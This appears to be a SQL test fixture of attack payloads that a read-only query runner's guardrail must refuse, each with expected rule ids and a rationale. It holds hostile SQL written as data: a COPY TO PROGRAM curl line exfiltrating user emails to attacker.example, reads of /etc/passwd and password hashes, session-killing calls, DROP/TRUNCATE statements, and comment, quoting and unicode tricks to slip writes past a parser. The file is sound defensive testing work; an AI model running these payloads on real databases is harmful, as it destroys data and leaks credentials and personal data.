-- Attack payloads that run_query (the read-only query runner) must REFUSE before anything reaches the server.
-- Classes follow the read-only section of DOMAIN.md: transaction control, writes hidden in read-shaped
-- statements, side-effecting or server-reaching functions, secrets, obfuscation, harmless multi-statements.
-- "-- expect:" lists the guardrail rule ids that may legitimately refuse the payload: any one of them suffices.
-- Format: "-- case:", "-- expect:" and "-- why:" headers, the SQL runs up to the next "-- case:" line and may contain
-- its own comments, semicolons inside strings, dollar quotes, tabs and form feeds. NEVER run these payloads.

-- case: commit-then-drop
-- expect: multiple-statements, not-read-only
-- why: ends the read-only transaction, then runs DDL in autocommit
COMMIT; DROP TABLE regions;

-- case: rollback-then-insert
-- expect: multiple-statements, not-read-only
-- why: leaves the READ ONLY transaction, then writes
ROLLBACK; INSERT INTO regions (code, name) VALUES ('XX', 'pwned');

-- case: end-then-delete
-- expect: multiple-statements, not-read-only
-- why: END is a synonym of COMMIT
SELECT 1; END; DELETE FROM orders WHERE id < 1000;

-- case: abort-then-truncate
-- expect: multiple-statements, not-read-only
-- why: ABORT is a synonym of ROLLBACK
ABORT; TRUNCATE billing.payments;

-- case: begin-read-write-update
-- expect: multiple-statements, not-read-only
-- why: opens a fresh read-write transaction for an update
COMMIT; BEGIN READ WRITE; UPDATE accounts SET plan = 'enterprise' WHERE id = 42; COMMIT;

-- case: start-transaction-read-write
-- expect: not-read-only
-- why: transaction control, even alone
START TRANSACTION READ WRITE;

-- case: set-transaction-read-write
-- expect: not-read-only
-- why: flips the current transaction to read-write if it has not run a query yet
SET TRANSACTION READ WRITE;

-- case: set-session-characteristics-read-write
-- expect: not-read-only
-- why: makes every later transaction of the pooled session read-write
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE;

-- case: set-default-transaction-read-only-off
-- expect: not-read-only
-- why: SET of the session default
SET default_transaction_read_only = off;

-- case: reset-default-transaction-read-only
-- expect: not-read-only
-- why: RESET changes session state too
RESET default_transaction_read_only;

-- case: set-config-default-read-only-off
-- expect: dangerous-function
-- why: the function form of SET, inside a harmless-looking SELECT
select set_config('default_transaction_read_only','off',false);

-- case: set-config-statement-timeout-qualified
-- expect: dangerous-function
-- why: schema-qualified set_config lifts the statement timeout for the pooled session
SELECT pg_catalog.set_config('statement_timeout', '0', false) AS ok;

-- case: set-role
-- expect: not-read-only
-- why: changes the privileges of the session
SET ROLE postgres;

-- case: savepoint-release-then-write
-- expect: multiple-statements, not-read-only
-- why: transaction control mixed with a write
SAVEPOINT s1; DELETE FROM comments; RELEASE SAVEPOINT s1;

-- case: cte-delete
-- expect: not-read-only
-- why: a data-modifying CTE in a statement that starts with WITH and ends with SELECT
WITH gone AS (
    DELETE FROM orders WHERE created_at < timestamptz '2016-01-01 00:00:00+00' RETURNING id
)
SELECT count(*) FROM gone;

-- case: cte-update-undelete-users
-- expect: not-read-only
-- why: UPDATE ... RETURNING inside a CTE
WITH u AS (UPDATE users SET deleted_at = NULL WHERE deleted_at IS NOT NULL RETURNING id)
SELECT count(*) AS restored FROM u;

-- case: cte-insert-after-read-cte
-- expect: not-read-only
-- why: the write is the second CTE, after an innocent one
WITH r AS (SELECT code FROM regions LIMIT 1),
     ins AS (INSERT INTO regions (code, name) SELECT code || '2', 'copy' FROM r RETURNING *)
SELECT * FROM ins;

-- case: nested-cte-update
-- expect: not-read-only
-- why: the data-modifying CTE is nested inside another CTE's query
WITH outer_q AS (
    WITH inner_q AS (UPDATE accounts SET is_test = true RETURNING id)
    SELECT id FROM inner_q
)
SELECT count(*) FROM outer_q;

-- case: cte-then-top-level-delete
-- expect: not-read-only
-- why: a WITH prefix on a DELETE statement
WITH old AS (SELECT id FROM orders WHERE state = 4)
DELETE FROM orders WHERE id IN (SELECT id FROM old);

-- case: select-into-new-table
-- expect: not-read-only
-- why: SELECT ... INTO creates a table
SELECT id, email, phone INTO public.exfil_users FROM users;

-- case: select-into-temp-table
-- expect: not-read-only
-- why: SELECT ... INTO TEMP still creates a relation
SELECT * INTO TEMP TABLE t_orders FROM orders WHERE id < 10;

-- case: create-table-as
-- expect: not-read-only
-- why: DDL that copies data
CREATE TABLE public.copy_of_users AS SELECT * FROM users;

-- case: explain-analyze-delete
-- expect: not-read-only
-- why: EXPLAIN ANALYZE executes the statement it explains
EXPLAIN ANALYZE DELETE FROM orders;

-- case: explain-parenthesised-analyze-update
-- expect: not-read-only
-- why: the option list form of ANALYZE
EXPLAIN (ANALYZE) UPDATE accounts SET plan = 'free';

-- case: explain-analyze-options-insert
-- expect: not-read-only
-- why: ANALYZE true among other options
EXPLAIN (FORMAT JSON, ANALYZE true, BUFFERS) INSERT INTO regions (code, name) VALUES ('ZZ', 'x');

-- case: explain-analyze-select-pg-sleep
-- expect: not-read-only, dangerous-function
-- why: EXPLAIN ANALYZE runs the query, which calls pg_sleep
EXPLAIN ANALYZE SELECT pg_sleep(60);

-- case: select-for-update
-- expect: not-read-only
-- why: row locks block the application's writers
SELECT * FROM orders WHERE id = 1 FOR UPDATE;

-- case: select-for-no-key-update
-- expect: not-read-only
-- why: a weaker row lock is still a lock
SELECT id, state FROM orders WHERE state = 0 FOR NO KEY UPDATE;

-- case: select-for-share-nowait
-- expect: not-read-only
-- why: FOR SHARE OF one table
SELECT u.id FROM users u JOIN orders o ON o.user_id = u.id WHERE u.deleted_at IS NULL FOR SHARE OF u NOWAIT;

-- case: select-for-key-share-subquery
-- expect: not-read-only
-- why: the locking clause sits in a subquery
SELECT * FROM (SELECT id FROM accounts FOR KEY SHARE) AS locked;

-- case: prepare-delete-execute
-- expect: multiple-statements, not-read-only
-- why: prepares a write, then executes it
PREPARE p AS DELETE FROM orders; EXECUTE p;

-- case: prepare-select
-- expect: not-read-only
-- why: PREPARE creates session state that outlives the call
PREPARE q(bigint) AS SELECT * FROM orders WHERE id = $1;

-- case: execute-prepared
-- expect: not-read-only
-- why: runs a statement prepared earlier in the pooled session, whatever it is
EXECUTE p;

-- case: do-block-drop
-- expect: not-read-only
-- why: anonymous PL/pgSQL block with dynamic SQL
DO $$ BEGIN EXECUTE 'DROP TABLE regions'; END $$;

-- case: do-block-language-tagged
-- expect: not-read-only
-- why: DO with a custom dollar tag and an explicit language
DO LANGUAGE plpgsql $body$
BEGIN
    UPDATE accounts SET plan = 'enterprise';
END
$body$;

-- case: call-procedure
-- expect: not-read-only
-- why: CALL runs a procedure that may commit by itself
CALL public.cleanup_orders();

-- case: merge-into-accounts
-- expect: not-read-only
-- why: MERGE writes
MERGE INTO accounts a
USING (SELECT 42 AS id) s ON a.id = s.id
WHEN MATCHED THEN UPDATE SET plan = 'enterprise';

-- case: copy-to-program
-- expect: not-read-only
-- why: runs a shell command on the database server
COPY (SELECT email, phone FROM users) TO PROGRAM 'curl -s -d @- https://attacker.example/collect';

-- case: copy-from-file
-- expect: not-read-only
-- why: loads a server file into a table
COPY regions FROM '/tmp/evil.csv' WITH (FORMAT csv);

-- case: copy-to-server-file
-- expect: not-read-only
-- why: writes a server file
COPY users TO '/tmp/users.csv' CSV HEADER;

-- case: copy-to-stdout
-- expect: not-read-only
-- why: COPY is not a query; run_query returns rows only through SELECT
COPY (SELECT * FROM users) TO STDOUT;

-- case: ddl-alter-table
-- expect: not-read-only
-- why: DDL
ALTER TABLE users DROP COLUMN email;

-- case: grant-all
-- expect: not-read-only
-- why: privilege change
GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC;

-- case: alter-system-reload
-- expect: multiple-statements, not-read-only, dangerous-function
-- why: persists a server setting, then reloads the configuration
ALTER SYSTEM SET default_transaction_read_only = off; SELECT pg_reload_conf();

-- case: lock-table
-- expect: not-read-only
-- why: an ACCESS EXCLUSIVE lock stops the application
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE;

-- case: vacuum-full
-- expect: not-read-only
-- why: maintenance that rewrites the table under an exclusive lock
VACUUM FULL orders;

-- case: refresh-materialized-view
-- expect: not-read-only
-- why: rewrites the matview
REFRESH MATERIALIZED VIEW billing.monthly_revenue;

-- case: listen
-- expect: not-read-only
-- why: session state on a pooled connection
LISTEN orders_changed;

-- case: notify
-- expect: not-read-only
-- why: sends a notification to every listener
NOTIFY orders_changed, 'refund everything';

-- case: declare-cursor-with-hold
-- expect: not-read-only
-- why: a holdable cursor outlives the transaction
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM users;

-- case: create-extension-dblink
-- expect: not-read-only
-- why: installs an extension that reaches other servers
CREATE EXTENSION IF NOT EXISTS dblink;

-- case: pg-read-file-in-from
-- expect: dangerous-function
-- why: a server file read through a set-returning call in FROM
SELECT * FROM pg_read_file('/etc/passwd');

-- case: pg-read-binary-file
-- expect: dangerous-function
-- why: reads a binary file of the data directory
SELECT pg_read_binary_file('global/pg_control');

-- case: pg-ls-dir
-- expect: dangerous-function
-- why: lists the data directory
SELECT * FROM pg_ls_dir('.') AS f(name);

-- case: pg-stat-file
-- expect: dangerous-function
-- why: probes server files
SELECT (pg_stat_file('postgresql.conf')).size;

-- case: lo-import
-- expect: dangerous-function
-- why: imports a server file into a large object
SELECT lo_import('/etc/passwd');

-- case: lo-export
-- expect: dangerous-function
-- why: writes a large object to a server file
SELECT lo_export(16385, '/tmp/dump.bin');

-- case: lo-get
-- expect: dangerous-function
-- why: reads a large object's raw bytes
SELECT convert_from(lo_get(16385), 'UTF8');

-- case: terminate-all-backends
-- expect: dangerous-function
-- why: kills every other session, over pg_stat_activity
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid();

-- case: cancel-backends
-- expect: dangerous-function
-- why: cancels the application's running queries
SELECT pid, pg_cancel_backend(pid) FROM pg_stat_activity WHERE datname = current_database();

-- case: reload-conf
-- expect: dangerous-function
-- why: reloads the server configuration
SELECT pg_reload_conf();

-- case: rotate-logfile
-- expect: dangerous-function
-- why: server administration function
SELECT pg_rotate_logfile();

-- case: switch-wal
-- expect: dangerous-function
-- why: forces a WAL segment switch
SELECT pg_switch_wal();

-- case: create-restore-point
-- expect: dangerous-function
-- why: writes a WAL record
SELECT pg_create_restore_point('before-attack');

-- case: dblink-in-from
-- expect: dangerous-function
-- why: opens a connection to another server from the database server
SELECT * FROM dblink('host=db.internal.example dbname=prod user=admin', 'SELECT secret FROM vault') AS t(secret text);

-- case: dblink-exec-write
-- expect: dangerous-function
-- why: dblink_exec runs a write in a separate, autocommitted connection that escapes READ ONLY
SELECT dblink_exec('dbname=acme', 'DROP TABLE regions');

-- case: advisory-lock
-- expect: dangerous-function
-- why: a session-level advisory lock survives the rollback on a pooled connection
SELECT pg_advisory_lock(1);

-- case: try-advisory-xact-lock
-- expect: dangerous-function
-- why: advisory lock family
SELECT pg_try_advisory_xact_lock(42) AS got_it;

-- case: pg-sleep
-- expect: dangerous-function
-- why: holds a connection and a snapshot for 100 seconds
SELECT pg_sleep(100);

-- case: pg-sleep-for-in-where
-- expect: dangerous-function
-- why: pg_sleep_for in a WHERE clause runs once per row
SELECT id FROM accounts WHERE pg_sleep_for('1 second') IS NOT NULL;

-- case: pg-notify
-- expect: dangerous-function
-- why: the function form of NOTIFY
SELECT pg_notify('orders_changed', 'refund everything');

-- case: nextval
-- expect: dangerous-function
-- why: advances a sequence (not rolled back)
SELECT nextval('public.accounts_id_seq');

-- case: setval
-- expect: dangerous-function
-- why: resets a sequence: the next inserts collide with existing ids
SELECT setval('public.orders_id_seq', 1, false);

-- case: txid-current
-- expect: dangerous-function
-- why: assigns a transaction id (a write to the server state)
SELECT txid_current();

-- case: query-to-xml-secrets
-- expect: dangerous-function, restricted-object
-- why: runs an arbitrary query given as a string, out of sight of the parser
SELECT query_to_xml('SELECT rolname, rolpassword FROM pg_authid', true, false, '');

-- case: pg-authid-passwords
-- expect: restricted-object
-- why: password hashes
SELECT rolname, rolpassword FROM pg_authid;

-- case: pg-shadow-passwords
-- expect: restricted-object
-- why: password hashes through the legacy view
SELECT usename, passwd FROM pg_shadow;

-- case: pg-user-mappings
-- expect: restricted-object
-- why: foreign server credentials
SELECT srvname, usename, umoptions FROM pg_user_mappings;

-- case: pg-user-mapping-catalog
-- expect: restricted-object
-- why: the raw catalog behind pg_user_mappings
SELECT * FROM pg_catalog.pg_user_mapping;

-- case: pg-statistic-raw-values
-- expect: restricted-object
-- why: raw most-common values of every column, PII included
SELECT starelid::regclass, stavalues1 FROM pg_statistic;

-- case: pg-largeobject
-- expect: restricted-object
-- why: raw large-object pages
SELECT loid, pageno, data FROM pg_largeobject;

-- case: pg-hba-file-rules
-- expect: restricted-object
-- why: the server's authentication rules
SELECT * FROM pg_hba_file_rules;

-- case: pg-file-settings
-- expect: restricted-object
-- why: the server's configuration files
SELECT sourcefile, name, setting FROM pg_file_settings;

-- case: secrets-in-subquery
-- expect: restricted-object
-- why: the secret catalog hides in a scalar subquery
SELECT o.id, (SELECT rolpassword FROM pg_authid WHERE rolname = 'postgres') AS pw FROM orders o LIMIT 1;

-- case: mixed-case-read-file
-- expect: dangerous-function
-- why: keywords and function name in mixed case
SeLeCt * FrOm Pg_ReAd_FiLe('/etc/passwd');

-- case: mixed-case-delete
-- expect: not-read-only
-- why: mixed-case keywords
dElEtE fRoM Orders WhErE iD < 100;

-- case: comment-inside-keyword
-- expect: syntax-error, not-read-only
-- why: a comment splits DELETE in two; PostgreSQL does not accept it, but a guard must not read it as harmless either
DEL/**/ETE FROM orders;

-- case: comments-between-keywords
-- expect: not-read-only
-- why: block comments instead of spaces between the keywords of a write
DELETE/**/FROM/**/orders/**/WHERE/**/id<100;

-- case: comment-hides-keyword-position
-- expect: not-read-only
-- why: the statement starts with a comment that looks like a SELECT
/* SELECT 1; */ UPDATE accounts SET plan = 'free';

-- case: semicolon-in-block-comment
-- expect: multiple-statements, not-read-only
-- why: the first semicolon is inside a comment, the second one is real
SELECT 1 /* ; */ ; DROP TABLE regions;

-- case: nested-block-comment
-- expect: multiple-statements, not-read-only
-- why: PostgreSQL block comments nest: the comment ends at the second */, then comes a real statement
SELECT 1 /* outer /* inner */ still a comment; */ ; DROP TABLE regions;

-- case: semicolon-in-string
-- expect: multiple-statements, not-read-only
-- why: a semicolon inside a string constant, then a real one
SELECT ';' AS x; DELETE FROM orders;

-- case: doubled-quote-string
-- expect: multiple-statements, not-read-only
-- why: an escaped quote by doubling inside the string
SELECT 'it''s fine; really' AS msg; TRUNCATE orders;

-- case: line-comment-marker-in-string
-- expect: multiple-statements, not-read-only
-- why: a naive lexer takes '--' inside the string for a comment and skips the rest of the line
SELECT '--' AS x; DROP TABLE regions;

-- case: dollar-quote-hides-semicolon
-- expect: multiple-statements, not-read-only
-- why: a semicolon inside a dollar-quoted string, then a real one
SELECT $$;$$ AS x; UPDATE accounts SET plan = 'enterprise';

-- case: tagged-dollar-quote-with-inner-dollars
-- expect: multiple-statements, not-read-only
-- why: the tagged body contains $$ and a semicolon, the write follows the closing tag
SELECT $a$ $$ ; $b$ $a$ AS x; TRUNCATE billing.invoices;

-- case: escape-string-backslash-quote
-- expect: multiple-statements, not-read-only
-- why: in E'\';' the backslash escapes the quote, so the string is ';' and the DROP is real
SELECT E'\';' AS x; DROP TABLE regions;

-- case: escape-string-hides-from-naive-lexer
-- expect: multiple-statements, not-read-only
-- why: E'\'' is one quote character; a lexer that ignores E-strings sees one long string up to the final quote
SELECT E'\''; DROP TABLE regions; --';

-- case: standard-string-trailing-backslash
-- expect: multiple-statements, not-read-only
-- why: with standard_conforming_strings a backslash is literal: 'a\' ends the string and the DELETE is real
SELECT 'a\'; DELETE FROM users; --';

-- case: quoted-identifier-with-semicolon
-- expect: multiple-statements, not-read-only
-- why: a semicolon inside a double-quoted alias, then a real one
SELECT 1 AS ";"; DROP TABLE regions;

-- case: unicode-escape-function-name
-- expect: dangerous-function
-- why: U&"pg_re\0061d_file" is pg_read_file spelled with a unicode escape
SELECT U&"pg_re\0061d_file"('/etc/passwd');

-- case: unicode-escape-table-name
-- expect: restricted-object
-- why: U&"pg_\0061uthid" is pg_authid
SELECT rolname, rolpassword FROM pg_catalog.U&"pg_\0061uthid";

-- case: quoted-function-name
-- expect: dangerous-function
-- why: a double-quoted function name
SELECT "pg_read_file"('/etc/passwd');

-- case: schema-qualified-function
-- expect: dangerous-function
-- why: explicitly schema-qualified
SELECT pg_catalog.pg_read_file('/etc/passwd');

-- case: quoted-schema-and-function-in-from
-- expect: dangerous-function
-- why: both parts quoted, called in FROM
SELECT * FROM "pg_catalog"."pg_ls_dir"('/') AS f(name);

-- case: function-in-cte
-- expect: dangerous-function
-- why: the file read hides in a CTE
WITH cfg AS (SELECT pg_read_file('postgresql.auto.conf') AS content)
SELECT length(content) FROM cfg;

-- case: function-in-scalar-subquery
-- expect: dangerous-function
-- why: pg_sleep in a scalar subquery of an ordinary report
SELECT a.name, (SELECT 1 FROM pg_sleep(30)) AS pause FROM accounts a WHERE a.id = 1;

-- case: function-in-lateral
-- expect: dangerous-function
-- why: a directory listing per row through LATERAL
SELECT a.id, f.name FROM accounts a CROSS JOIN LATERAL pg_ls_dir('/') AS f(name) WHERE a.id < 3;

-- case: function-in-case-branch
-- expect: dangerous-function
-- why: the side effect sits in a CASE branch of an innocent-looking query
SELECT pid, CASE WHEN state = 'idle' THEN pg_terminate_backend(pid) END AS killed FROM pg_stat_activity;

-- case: function-in-order-by
-- expect: dangerous-function
-- why: the advisory lock is taken in ORDER BY
SELECT id FROM orders ORDER BY pg_advisory_lock(id) LIMIT 5;

-- case: function-in-view-like-union
-- expect: dangerous-function
-- why: the second branch of a UNION calls lo_import
SELECT name FROM regions UNION ALL SELECT lo_import('/etc/shadow')::text;

-- case: newline-and-tab-split
-- expect: multiple-statements, not-read-only
-- why: the second statement starts after blank lines and tabs
SELECT 1
	;

		DROP
	TABLE
regions;

-- case: form-feed-separator
-- expect: multiple-statements, not-read-only
-- why: a form feed is whitespace to PostgreSQL
SELECT 1;DROPTABLE regions;

-- case: write-after-line-comment
-- expect: multiple-statements, not-read-only
-- why: the trailing semicolon is followed by a comment, and the real statement comes on the next line
SELECT count(*) FROM orders; -- harmless count
DROP TABLE regions;

-- case: write-after-comment-ending-in-semicolon
-- expect: multiple-statements, not-read-only
-- why: the line comment ends with a semicolon that is not a separator; the one after it is
SELECT 1 -- ;
; DELETE FROM orders;

-- case: values-then-drop
-- expect: multiple-statements, not-read-only
-- why: a VALUES statement first
VALUES (1); DROP TABLE regions;

-- case: table-then-truncate
-- expect: multiple-statements, not-read-only
-- why: TABLE is a read-only statement, the next one is not
TABLE regions; TRUNCATE regions;

-- case: parenthesised-select-then-write
-- expect: multiple-statements, not-read-only
-- why: a parenthesised query first
(SELECT 1); INSERT INTO regions (code, name) VALUES ('XX', 'pwned');

-- case: harmless-two-selects
-- expect: multiple-statements
-- why: two reads are still two statements
SELECT 1; SELECT 2;

-- case: harmless-two-counts
-- expect: multiple-statements
-- why: two reads on the demo tables
SELECT count(*) FROM orders;
SELECT count(*) FROM accounts;

-- case: harmless-selects-with-comments
-- expect: multiple-statements
-- why: comments around the separator do not make it one statement
SELECT now() /* first */ ; /* second */ SELECT current_user;

-- case: harmless-select-then-table
-- expect: multiple-statements
-- why: a SELECT and a TABLE statement
SELECT 'a;b' AS s; TABLE regions;
